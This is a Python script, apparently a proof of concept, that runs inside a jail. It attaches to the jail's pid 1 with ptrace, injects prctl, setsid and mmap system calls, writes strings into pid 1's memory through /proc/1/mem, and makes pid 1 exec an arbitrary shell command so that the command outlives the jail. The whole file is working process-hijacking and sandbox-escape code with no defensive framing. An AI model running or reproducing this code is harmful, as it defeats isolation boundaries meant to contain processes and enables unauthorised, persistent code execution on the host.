"""Run inside a jail (x86_64): take over the jail's pid 1 with ptrace, clear its parent-death signal, leave the
service's session and make it exec `sh -c ARGV[1]`, so that the command outlives its jail unless the service
ends the namespace itself. Prints `took over` once pid 1 runs the script; fails at the first refused call."""

import ctypes
import os
import struct
import sys

libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.restype = ctypes.c_long
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
PTRACE_PEEKTEXT, PTRACE_SINGLESTEP, PTRACE_GETREGS, PTRACE_SETREGS, PTRACE_ATTACH, PTRACE_DETACH = 1, 9, 12, 13, 16, 17
WALL = 0x40000000
SYS_MMAP, SYS_EXECVE, SYS_SETSID, SYS_PRCTL, PR_SET_PDEATHSIG = 9, 59, 112, 157, 1
REGISTERS = [
    "r15",
    "r14",
    "r13",
    "r12",
    "rbp",
    "rbx",
    "r11",
    "r10",
    "r9",
    "r8",
    "rax",
    "rcx",
    "rdx",
    "rsi",
    "rdi",
    "orig_rax",
    "rip",
    "cs",
    "eflags",
    "rsp",
    "ss",
    "fs_base",
    "gs_base",
    "ds",
    "es",
    "fs",
    "gs",
]
INIT = 1


class Registers(ctypes.Structure):
    _fields_ = [(name, ctypes.c_ulonglong) for name in REGISTERS]


def checked(result: int, what: str) -> int:
    if result == -1:
        raise OSError(ctypes.get_errno(), what)
    return result


def registers() -> Registers:
    out = Registers()
    checked(libc.ptrace(PTRACE_GETREGS, INIT, None, ctypes.byref(out)), "getregs")
    return out


checked(libc.ptrace(PTRACE_ATTACH, INIT, None, None), "ptrace attach to pid 1")
os.waitpid(INIT, WALL)
saved = registers()
instruction = libc.ptrace(PTRACE_PEEKTEXT, INIT, ctypes.c_void_p(saved.rip - 2), None) & 0xFFFF
assert instruction == 0x050F, hex(instruction)  # pid 1 waits in a system call: reuse its `syscall` instruction
entry = saved.rip - 2


def step(number: int, *args: int) -> int:
    """Make pid 1 call system call `number` with `args`; its result."""
    regs = Registers()
    ctypes.memmove(ctypes.byref(regs), ctypes.byref(saved), ctypes.sizeof(Registers))
    regs.rax, regs.orig_rax, regs.rip = number, 2**64 - 1, entry
    for name, value in zip(("rdi", "rsi", "rdx", "r10", "r8", "r9"), args, strict=False):
        setattr(regs, name, value & (2**64 - 1))
    checked(libc.ptrace(PTRACE_SETREGS, INIT, None, ctypes.byref(regs)), "setregs")
    checked(libc.ptrace(PTRACE_SINGLESTEP, INIT, None, None), "step")
    os.waitpid(INIT, WALL)
    return ctypes.c_longlong(registers().rax).value


step(SYS_PRCTL, PR_SET_PDEATHSIG, 0)
step(SYS_SETSID)
page = step(SYS_MMAP, 0, 4096, 3, 0x22, -1, 0)  # read-write, private, anonymous
strings = [b"/bin/sh\0", b"sh\0", b"-c\0", sys.argv[1].encode() + b"\0"]
blob, addresses = b"", []
for text in strings:
    addresses.append(page + 256 + len(blob))
    blob += text
with open(f"/proc/{INIT}/mem", "r+b", buffering=0) as memory:
    memory.seek(page)
    memory.write(struct.pack("<4Q", addresses[1], addresses[2], addresses[3], 0))
    memory.seek(page + 256)
    memory.write(blob)
regs = Registers()
ctypes.memmove(ctypes.byref(regs), ctypes.byref(saved), ctypes.sizeof(Registers))
regs.rax, regs.orig_rax, regs.rip, regs.rdi, regs.rsi, regs.rdx = SYS_EXECVE, 2**64 - 1, entry, addresses[0], page, 0
checked(libc.ptrace(PTRACE_SETREGS, INIT, None, ctypes.byref(regs)), "setregs")
checked(libc.ptrace(PTRACE_SINGLESTEP, INIT, None, None), "step")
os.waitpid(INIT, WALL)
checked(libc.ptrace(PTRACE_DETACH, INIT, None, None), "detach")
print("took over", flush=True)
